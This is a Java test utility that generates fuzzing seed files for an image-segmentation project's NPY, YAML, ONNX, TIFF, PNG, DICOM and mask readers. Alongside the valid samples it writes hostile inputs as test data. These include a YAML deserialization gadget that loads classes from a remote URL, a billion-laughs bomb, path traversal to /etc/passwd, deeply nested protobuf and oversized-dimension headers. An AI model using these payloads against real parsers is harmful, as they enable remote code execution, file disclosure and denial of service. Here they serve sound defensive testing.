package org.segloop.fuzz;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;

import org.segloop.core.image.LabelTiffReader.SampleType;
import org.segloop.core.util.Npy;
import org.segloop.testutil.DicomSeriesMaker;
import org.segloop.testutil.LabelTiffs;
import org.segloop.testutil.LabelTiffs.Compression;
import org.segloop.testutil.LabelTiffs.Layout;
import org.segloop.testutil.OnnxBuilder;

/**
 * Writes the committed seed corpora of the fuzz harnesses (src/test/resources/org/segloop/fuzz/
 * HARNESSInputs/METHOD/): valid files of every kind each reader takes, and near misses that
 * reach its refusals. Run from the project folder to regenerate them:
 * {@code java -cp target/test-classes:target/classes:$(deps) org.segloop.fuzz.SeedCorpus}.
 */
public final class SeedCorpus {

	private static final Path ROOT = Path.of("src/test/resources/org/segloop/fuzz");

	private SeedCorpus() {}

	public static void main(String[] args) throws IOException {
		npy(ROOT.resolve("NpyFuzzTestInputs/npy"));
		rdf(ROOT.resolve("RdfReaderFuzzTestInputs/rdfYaml"));
		onnx(ROOT.resolve("OnnxScannerFuzzTestInputs/onnxFile"));
		images(ROOT.resolve("TiffPrecheckFuzzTestInputs/image"));
		masks(ROOT.resolve("MaskReaderFuzzTestInputs/mask"));
	}

	static void npy(Path dir) throws IOException {
		Files.createDirectories(dir);
		Path f4 = dir.resolve("valid_f4_1x1x4x4");
		Npy.write(f4, new long[] { 1, 1, 4, 4 }, ramp(16));
		byte[] valid = Files.readAllBytes(f4);
		Files.write(dir.resolve("valid_i2_3"), npyBytes(1, "'<i2'", "(3,)", shorts(1, -2, 3)));
		Files.write(dir.resolve("valid_u1_2x2"), npyBytes(1, "'|u1'", "(2, 2)", new byte[] { 0, 1, (byte) 200, (byte) 255 }));
		Files.write(dir.resolve("valid_big_endian_f8_2"), npyBytes(1, "'>f8'", "(2,)",
			ByteBuffer.allocate(16).order(ByteOrder.BIG_ENDIAN).putDouble(1.5).putDouble(-2).array()));
		Files.write(dir.resolve("valid_version2_i4_scalar"), npyBytes(2, "'<i4'", "()", new byte[] { 7, 0, 0, 0 }));
		Files.write(dir.resolve("refused_truncated_data"), Arrays.copyOf(valid, valid.length - 5));
		Files.write(dir.resolve("refused_truncated_header"), Arrays.copyOf(valid, 40));
		Files.write(dir.resolve("refused_fortran_order"), npyBytes(1, "'<f4'", "(2, 2)", new byte[16]).clone());
		replace(dir.resolve("refused_fortran_order"), "False", "True ");
		Files.write(dir.resolve("refused_complex"), npyBytes(1, "'<c8'", "(1,)", new byte[8]));
		Files.write(dir.resolve("refused_version9"), npyBytes(9, "'<f4'", "(1,)", new byte[4]));
		Files.write(dir.resolve("refused_impossible_shape"), npyBytes(1, "'<f4'", "(4294967296, 4294967296)", new byte[4]));
		Files.write(dir.resolve("refused_negative_dim"), npyBytes(1, "'<f4'", "(-1,)", new byte[4]));
		Files.write(dir.resolve("refused_not_npy"), "just text\n".getBytes(StandardCharsets.UTF_8));
	}

	static void rdf(Path dir) throws IOException {
		Files.createDirectories(dir);
		String bundled = Files.readString(Path.of("models/nuclei-unet2d/rdf.yaml"));
		write(dir, "valid_bundled_0_5", bundled);
		write(dir, "valid_minimal_0_5", OnnxScannerFuzzTest.RDF);
		write(dir, "valid_0_4", """
			format_version: 0.4.10
			type: model
			name: old
			inputs:
			  - name: raw
			    axes: bcyx
			    data_type: float32
			    shape: {min: [1, 1, 64, 64], step: [0, 0, 16, 16]}
			    preprocessing:
			      - name: zero_mean_unit_variance
			        kwargs: {mode: per_sample, axes: xy}
			outputs:
			  - name: probabilities
			    axes: bcyx
			    data_type: float32
			    shape: {reference_tensor: raw, scale: [1, 2, 1, 1], offset: [0, 0, 0, 0]}
			    halo: [0, 0, 8, 8]
			test_inputs: [test_input.npy]
			test_outputs: [test_output.npy]
			weights:
			  onnx:
			    source: model.onnx
			""");
		write(dir, "refused_format_0_6", bundled.replace("format_version: 0.5.3", "format_version: 0.6.0"));
		write(dir, "refused_no_onnx", bundled.replace("  onnx:", "  keras:"));
		write(dir, "refused_source_outside", bundled.replace("source: model.onnx", "source: ../../etc/passwd"));
		write(dir, "refused_source_url", bundled.replace("source: model.onnx", "source: https://example.org/model.onnx"));
		write(dir, "refused_two_inputs", OnnxScannerFuzzTest.RDF.replace("outputs:", """
			  - id: x2
			    axes: [{type: batch}, {type: space, id: y, size: 16}, {type: space, id: x, size: 16}]
			outputs:"""));
		write(dir, "refused_postprocessing_as_pre", bundled.replace("postprocessing:\n      - id: softmax", "postprocessing:\n      - id: scale_range"));
		write(dir, "refused_yaml_type_tag", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
		write(dir, "refused_billion_laughs", laughs());
		write(dir, "refused_duplicate_key", bundled + "type: model\n");
		write(dir, "refused_tab_indent", "type: model\n\tformat_version: 0.5.3\n");
		write(dir, "refused_not_a_map", "- a\n- b\n");
		write(dir, "refused_empty", "");
	}

	static void onnx(Path dir) throws IOException {
		Files.createDirectories(dir);
		OnnxBuilder conv = new OnnxBuilder().input("x", 1L, 1L, "h", "w").output("y", 1L, 2L, "h", "w")
			.initializer("w", new long[] { 2, 1, 1, 1 }, new float[] { -1, 1 }).initializer("b", new long[] { 2 }, new float[] { 0.5f, -0.5f })
			.node("Conv", List.of("x", "w", "b"), List.of("y"), "kernel_shape", new long[] { 1, 1 });
		byte[] valid = conv.toBytes();
		Files.write(dir.resolve("valid_conv_1x1"), valid);
		Files.write(dir.resolve("valid_conv_softmax"), new OnnxBuilder().input("x", 1L, 1L, "h", "w").output("y", 1L, 2L, "h", "w")
			.initializer("w", new long[] { 2, 1, 1, 1 }, new float[] { -1, 1 })
			.node("Conv", List.of("x", "w"), List.of("logits"), "kernel_shape", new long[] { 1, 1 })
			.node("Softmax", List.of("logits"), List.of("y"), "axis", 1L).toBytes());
		Files.write(dir.resolve("valid_int64_initializer"), new OnnxBuilder().input("x", 1L, 1L, "h", "w").output("y", 1L, 2L, "h", "w")
			.initializer("w", new long[] { 2, 1, 1, 1 }, new float[] { -1, 1 }).initializer("axes", new long[] { 1 }, new long[] { 1 })
			.node("Conv", List.of("x", "w"), List.of("y"), "kernel_shape", new long[] { 1, 1 }).toBytes());
		Files.write(dir.resolve("refused_external_outside"), externalData("../../../../etc/passwd"));
		Files.write(dir.resolve("refused_external_absolute"), externalData("/etc/passwd"));
		Files.write(dir.resolve("refused_external_missing"), externalData("weights.bin"));
		Files.write(dir.resolve("refused_truncated"), Arrays.copyOf(valid, valid.length / 2));
		Files.write(dir.resolve("refused_text"), "this is not a model, just a text file renamed .onnx\n".getBytes(StandardCharsets.UTF_8));
		byte[] wire7 = valid.clone();
		wire7[0] = (byte) 0x0f; // field 1 with wire type 7
		Files.write(dir.resolve("refused_bad_wire_type"), wire7);
		Files.write(dir.resolve("refused_deep_nesting"), deepNesting(100));
	}

	static void images(Path dir) throws IOException {
		Files.createDirectories(dir);
		double[] ramp = new double[16 * 16];
		for (int i = 0; i < ramp.length; i++) ramp[i] = i;
		Path t = dir.resolve("valid_uint16_16x16");
		LabelTiffs.write(t, 16, 16, SampleType.UINT16, Layout.plain(), ramp);
		LabelTiffs.write(dir.resolve("valid_uint8_stack_lzw"), 16, 16, SampleType.UINT8, new Layout(ByteOrder.BIG_ENDIAN, Compression.LZW, 4, false), ramp, ramp);
		LabelTiffs.write(dir.resolve("valid_float32_packbits"), 16, 16, SampleType.FLOAT32, new Layout(ByteOrder.LITTLE_ENDIAN, Compression.PACKBITS, 0, false), ramp);
		byte[] tif = Files.readAllBytes(t);
		Files.write(dir.resolve("refused_truncated_tiff"), Arrays.copyOf(tif, tif.length / 2));
		Files.write(dir.resolve("refused_cyclic_pages"), cyclic(tif));
		Files.write(dir.resolve("refused_bigtiff_header"), new byte[] { 'I', 'I', 43, 0, 8, 0, 0, 0, 16, 0, 0, 0, 0, 0, 0, 0 });
		Files.write(dir.resolve("refused_huge_dimensions"), hugeTiff(tif));
		Files.write(dir.resolve("valid_png_gray"), png(16, 16));
		Files.write(dir.resolve("refused_png_huge_header"), hugePngHeader());
		Path dcm = DicomSeriesMaker.writeSlice(DicomSeriesMaker.ct("1.2.826.0.1.3680043.9.7.70", "1.2.826.0.1.3680043.9.7.70.1", 16, 16, 1)
			.withVoxels((xy, z) -> xy * 3), 0, dir.resolve("valid_dicom_ct"));
		byte[] d = Files.readAllBytes(dcm);
		Files.write(dir.resolve("refused_dicom_truncated"), Arrays.copyOf(d, d.length - 100));
		Files.write(dir.resolve("refused_text"), "not an image\n".getBytes(StandardCharsets.UTF_8));
	}

	static void masks(Path dir) throws IOException {
		Files.createDirectories(dir);
		int n = MaskReaderFuzzTest.SIZE;
		double[] labels = new double[n * n];
		for (int i = 0; i < labels.length; i++) labels[i] = (i / n) % 3;
		for (SampleType type : SampleType.values())
			LabelTiffs.write(dir.resolve("valid_" + type.name().toLowerCase()), n, n, type, Layout.plain(), labels);
		for (Compression c : Compression.values())
			LabelTiffs.write(dir.resolve("valid_uint16_" + c.name().toLowerCase() + "_predictor_big_endian"), n, n, SampleType.UINT16,
				new Layout(ByteOrder.BIG_ENDIAN, c, 5, c != Compression.NONE), labels);
		double[] big = labels.clone();
		big[5] = 70000;
		LabelTiffs.write(dir.resolve("valid_uint32_above_65535"), n, n, SampleType.UINT32, Layout.plain(), big);
		double[] negative = labels.clone();
		negative[17] = -1;
		LabelTiffs.write(dir.resolve("refused_negative"), n, n, SampleType.INT16, Layout.plain(), negative);
		double[] fraction = labels.clone();
		fraction[3] = 1.5;
		LabelTiffs.write(dir.resolve("refused_fraction"), n, n, SampleType.FLOAT32, Layout.plain(), fraction);
		LabelTiffs.write(dir.resolve("refused_wrong_size"), n * 2, n, SampleType.UINT8, Layout.plain(), new double[n * n * 2]);
		Path two = LabelTiffs.write(dir.resolve("refused_two_pages"), n, n, SampleType.UINT8, Layout.plain(), labels, labels);
		Files.write(dir.resolve("refused_cyclic_pages"), cyclic(Files.readAllBytes(two)));
		byte[] plain = Files.readAllBytes(dir.resolve("valid_uint8"));
		Files.write(dir.resolve("refused_truncated"), Arrays.copyOf(plain, plain.length - 40));
		Files.write(dir.resolve("valid_png_gray"), png(n, n));
	}

	// ---- helpers

	private static float[] ramp(int n) {
		float[] v = new float[n];
		for (int i = 0; i < n; i++) v[i] = i * 0.25f;
		return v;
	}

	private static byte[] shorts(int... v) {
		ByteBuffer b = ByteBuffer.allocate(v.length * 2).order(ByteOrder.LITTLE_ENDIAN);
		for (int x : v) b.putShort((short) x);
		return b.array();
	}

	/** A .npy file of any version, dtype and shape text, with the given data bytes. */
	public static byte[] npyBytes(int version, String descr, String shape, byte[] data) {
		String header = "{'descr': " + descr + ", 'fortran_order': False, 'shape': " + shape + ", }";
		int prefix = version == 1 ? 10 : 12;
		header += " ".repeat(63 - (prefix + header.length()) % 64) + "\n";
		ByteBuffer b = ByteBuffer.allocate(prefix + header.length() + data.length).order(ByteOrder.LITTLE_ENDIAN);
		b.put((byte) 0x93).put("NUMPY".getBytes(StandardCharsets.ISO_8859_1)).put((byte) version).put((byte) 0);
		if (version == 1) b.putShort((short) header.length());
		else b.putInt(header.length());
		b.put(header.getBytes(StandardCharsets.ISO_8859_1)).put(data);
		return b.array();
	}

	private static void replace(Path file, String from, String to) throws IOException {
		byte[] b = Files.readAllBytes(file);
		String s = new String(b, StandardCharsets.ISO_8859_1).replace(from, to);
		Files.write(file, s.getBytes(StandardCharsets.ISO_8859_1));
	}

	private static void write(Path dir, String name, String text) throws IOException {
		Files.writeString(dir.resolve(name), text, StandardCharsets.UTF_8);
	}

	/** YAML whose aliases expand to 10^9 elements. */
	public static String laughs() {
		StringBuilder s = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
		for (int i = 1; i < 10; i++) {
			s.append("a").append(i).append(": &a").append(i).append(" [");
			for (int k = 0; k < 9; k++) s.append(k > 0 ? ", " : "").append("*a").append(i - 1);
			s.append("]\n");
		}
		return s.toString();
	}

	static byte[] externalData(String location) {
		return new OnnxBuilder().input("x", 1L, 1L, "h", "w").output("y", 1L, 2L, "h", "w")
			.externalInitializer("w", new long[] { 2, 1, 1, 1 }, location)
			.node("Conv", List.of("x", "w"), List.of("y"), "kernel_shape", new long[] { 1, 1 }).toBytes();
	}

	/** A ModelProto whose graph holds a node whose attribute holds a graph … {@code depth} times. */
	static byte[] deepNesting(int depth) {
		byte[] inner = new byte[0];
		for (int i = 0; i < depth; i++) {
			byte[] attribute = field(6, inner); // AttributeProto.g
			byte[] node = field(5, attribute); // NodeProto.attribute
			inner = field(1, node); // GraphProto.node
		}
		ByteArrayOutputStream m = new ByteArrayOutputStream();
		m.writeBytes(new byte[] { 0x08, 0x08 }); // ir_version 8
		m.writeBytes(field(7, inner));
		return m.toByteArray();
	}

	private static byte[] field(int number, byte[] payload) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		varint(out, (long) number << 3 | 2);
		varint(out, payload.length);
		out.writeBytes(payload);
		return out.toByteArray();
	}

	private static void varint(ByteArrayOutputStream out, long v) {
		while ((v & ~0x7FL) != 0) {
			out.write((int) ((v & 0x7F) | 0x80));
			v >>>= 7;
		}
		out.write((int) v);
	}

	/** The same TIFF with its last page's "next page" pointing back to the first page. */
	public static byte[] cyclic(byte[] tif) {
		ByteBuffer b = ByteBuffer.wrap(tif.clone()).order(tif[0] == 'M' ? ByteOrder.BIG_ENDIAN : ByteOrder.LITTLE_ENDIAN);
		int first = b.getInt(4);
		int ifd = first;
		while (true) {
			int n = b.getShort(ifd) & 0xffff;
			int nextAt = ifd + 2 + 12 * n;
			int next = b.getInt(nextAt);
			if (next == 0) {
				b.putInt(nextAt, first);
				return b.array();
			}
			ifd = next;
		}
	}

	/** The same TIFF declaring 60000 × 60000 pixels. */
	public static byte[] hugeTiff(byte[] tif) {
		ByteBuffer b = ByteBuffer.wrap(tif.clone()).order(tif[0] == 'M' ? ByteOrder.BIG_ENDIAN : ByteOrder.LITTLE_ENDIAN);
		int ifd = b.getInt(4);
		int n = b.getShort(ifd) & 0xffff;
		for (int i = 0; i < n; i++) {
			int at = ifd + 2 + 12 * i;
			int tag = b.getShort(at) & 0xffff;
			if (tag == 256 || tag == 257) b.putShort(at + 2, (short) 4).putInt(at + 4, 1).putInt(at + 8, 60000);
		}
		return b.array();
	}

	static byte[] png(int w, int h) throws IOException {
		java.awt.image.BufferedImage img = new java.awt.image.BufferedImage(w, h, java.awt.image.BufferedImage.TYPE_BYTE_GRAY);
		for (int i = 0; i < w * h; i++) img.getRaster().setSample(i % w, i / w, 0, (i / w) % 3);
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		javax.imageio.ImageIO.write(img, "png", out);
		return out.toByteArray();
	}

	/** A valid PNG signature and IHDR declaring 100 000 × 100 000 pixels, and nothing else. */
	public static byte[] hugePngHeader() {
		ByteBuffer b = ByteBuffer.allocate(8 + 25).order(ByteOrder.BIG_ENDIAN);
		b.put(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' });
		b.putInt(13).put("IHDR".getBytes(StandardCharsets.ISO_8859_1)).putInt(100_000).putInt(100_000).put((byte) 8).put((byte) 2)
			.put((byte) 0).put((byte) 0).put((byte) 0);
		java.util.zip.CRC32 crc = new java.util.zip.CRC32();
		crc.update(b.array(), 12, 17);
		b.putInt((int) crc.getValue());
		return b.array();
	}
}
